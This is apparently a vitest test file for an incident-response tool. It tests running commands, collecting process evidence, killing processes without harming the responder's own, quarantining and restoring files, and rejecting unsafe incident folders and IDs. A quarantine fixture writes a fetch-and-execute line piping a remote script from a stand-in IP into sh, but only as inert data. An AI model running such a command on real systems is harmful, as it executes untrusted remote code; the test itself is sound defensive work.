import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { identifyFile } from '../../src/host/file-identity.ts';
import type { Host, OperationContext } from '../../src/host/host.ts';
import { createLocalHost } from '../../src/host/local.ts';
import { readProcess } from '../../src/host/process-identity.ts';
import { connectHost } from '../../src/host/remote.ts';
import type { Operation } from '../../src/operations/operation.ts';
import type { EvidenceFile, Receipt } from '../../src/operations/receipt.ts';
import { COMMAND } from '../support/incident-builder.ts';

const AGENT = join(import.meta.dirname, 'fixtures/agent-local.ts');

let folder: string;
let evidence: Map<string, Buffer>;
let output: Buffer[];
const children: ChildProcess[] = [];
const hosts: Host[] = [];

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'local-'));
  chmodSync(folder, 0o700);
  evidence = new Map();
  output = [];
});
afterEach(async () => {
  for (const child of children.splice(0)) child.kill('SIGKILL');
  await Promise.all(hosts.splice(0).map((host) => host.close()));
  rmSync(folder, { recursive: true, force: true });
});

const context: OperationContext = {
  incidentId: 'web-1-20261123',
  secrets: {},
  onProgress: () => {},
  onOutput: (_stream, bytes) => output.push(Buffer.from(bytes)),
  evidence: {
    async open(name, source) {
      const pieces: Uint8Array[] = [];
      return {
        write: async (bytes) => void pieces.push(Buffer.from(bytes)),
        async close() {
          const whole = Buffer.concat(pieces);
          evidence.set(name, whole);
          return {
            name,
            source,
            sha256: createHash('sha256').update(whole).digest('hex'),
            sizeBytes: whole.length,
          };
        },
      };
    },
  },
};

const common = { id: 'step.1.1', because: [] } as const;

async function prepared(
  host: Host,
  operation: Operation,
): Promise<{ receipt: Receipt; evidence: readonly EvidenceFile[] }> {
  const result = await host.prepare(operation, context);
  if (result.status === 'refused') throw new Error(`${result.refusal.code}: ${result.refusal.message}`);
  return result;
}

async function local(): Promise<Host> {
  return createLocalHost({ hostFolderRoot: join(folder, 'host') });
}
async function remote(): Promise<Host> {
  return connectHost([process.execPath, AGENT, join(folder, 'host')]);
}

function startSleep(): ChildProcess {
  const child = spawn('sleep', ['300'], { stdio: 'ignore' });
  children.push(child);
  return child;
}

describe.each([
  ['this machine', local],
  ['this machine behind an agent', remote],
])('%s', (_name, open) => {
  let host: Host;
  beforeEach(async () => {
    host = await open();
    hosts.push(host);
  });

  it('runs a command, once, and hands its output over whole', async () => {
    const operation: Operation = {
      ...common,
      ...COMMAND,
      command: { shell: 'echo "$GREETING"; seq 1 20000; exit 3' },
      environment: { GREETING: "it's $HOME" },
      timeoutMs: 30_000,
    };
    const { receipt } = await prepared(host, operation);
    const outcome = await host.perform(operation, receipt, context);
    expect(outcome).toMatchObject({ status: 'failed', exitCode: 3 });
    const said = Buffer.concat(output).toString();
    const numbers = Array.from({ length: 20_000 }, (_each, at) => `${at + 1}\n`).join('');
    expect(said).toBe(`it's $HOME\n${numbers}`);
    expect((await host.verify(operation, outcome.receipt)).status).not.toBe('in-progress');
  });

  it('takes a process’s evidence, kills it, and says that it is gone', async () => {
    const child = startSleep();
    const identity = readProcess(child.pid ?? 0)?.identity;
    if (identity === undefined) throw new Error('no process to kill');
    const collect: Operation = { ...common, kind: 'collect-process', process: identity };
    const collected = await prepared(host, collect);
    const taken = await host.perform(collect, collected.receipt, context);
    const exe = readFileSync(`/proc/${child.pid}/exe`);
    const sha256 = createHash('sha256').update(exe).digest('hex');
    expect([...evidence.values()].some((bytes) => bytes.equals(exe))).toBe(true);
    expect([...collected.evidence, ...taken.evidence].map((file) => file.sha256)).toContain(sha256);

    const kill: Operation = { ...common, id: 'step.1.2', kind: 'kill-process', process: identity };
    const { receipt } = await prepared(host, kill);
    const ended = new Promise((resolve) => child.once('exit', (_code, signal) => resolve(signal)));
    expect(await host.perform(kill, receipt, context)).toMatchObject({ status: 'done' });
    expect(await ended).toBe('SIGKILL');
    expect(await host.verify(kill, receipt)).toMatchObject({ status: 'holds' });
    // What has ended needs no killing; the number alone is not the process, so another one under it is stale.
    expect(await host.prepare(kill, context)).toMatchObject({ status: 'ready' });
    const another = startSleep();
    const now = readProcess(another.pid ?? 0)?.identity;
    if (now === undefined) throw new Error('no second process');
    const other: Operation = { ...kill, process: { ...now, startTicks: '1' } };
    expect(await host.prepare(other, context)).toMatchObject({
      status: 'refused',
      refusal: { code: 'stale' },
    });
  });

  it('never kills the responder’s own processes', async () => {
    const own = readProcess(process.pid)?.identity;
    if (own === undefined) throw new Error('no own process');
    const kill: Operation = { ...common, kind: 'kill-process', process: own };
    expect(await host.prepare(kill, context)).toMatchObject({
      status: 'refused',
      refusal: { code: 'responder' },
    });
  });

  it('takes a file away with its bytes as evidence, and brings it back as it was', async () => {
    const path = join(folder, 'dropped file');
    writeFileSync(path, 'curl http://203.0.113.20/x | sh\n', { mode: 0o750 });
    const before = lstatSync(path, { bigint: true });
    const file = identifyFile(path);
    const operation: Operation = { ...common, kind: 'quarantine-file', file };
    const ready = await prepared(host, operation);
    expect([...evidence.values()].map(String)).toContain('curl http://203.0.113.20/x | sh\n');
    const outcome = await host.perform(operation, ready.receipt, context);
    expect(outcome).toMatchObject({ status: 'done' });
    expect(existsSync(path)).toBe(false);
    expect(await host.verify(operation, ready.receipt)).toMatchObject({ status: 'holds' });
    expect(await host.undo(operation, outcome.receipt, context)).toMatchObject({ status: 'done' });
    const { mode, uid, gid, mtimeNs } = lstatSync(path, { bigint: true });
    expect({ mode, uid, gid, mtimeNs }).toEqual({
      mode: before.mode,
      uid: before.uid,
      gid: before.gid,
      mtimeNs: before.mtimeNs,
    });
    expect(readFileSync(path, 'utf8')).toBe('curl http://203.0.113.20/x | sh\n');
  });

  it('scans, and says what it could not see', async () => {
    const outcome = await host.scan({ scopes: ['processes', 'connections'], sampleMs: 100 }, {});
    expect(outcome.counts.processes).toBeGreaterThan(1);
    expect(outcome.tookMs).toBeGreaterThan(0);
  });

  it('refuses an incident whose folder others can write to', async () => {
    mkdirSync(join(folder, 'host'));
    chmodSync(join(folder, 'host'), 0o777);
    const operation: Operation = { ...common, kind: 'lift-isolation' };
    await expect(host.prepare(operation, context)).rejects.toMatchObject({ code: 'host-folder' });
  });

  it('does not take an incident’s name for a path', async () => {
    const operation: Operation = { ...common, kind: 'lift-isolation' };
    for (const incidentId of ['../x', 'a/b', '', '.', '..']) {
      await expect(host.prepare(operation, { ...context, incidentId })).rejects.toMatchObject({
        code: 'incident-id',
      });
    }
  });
});
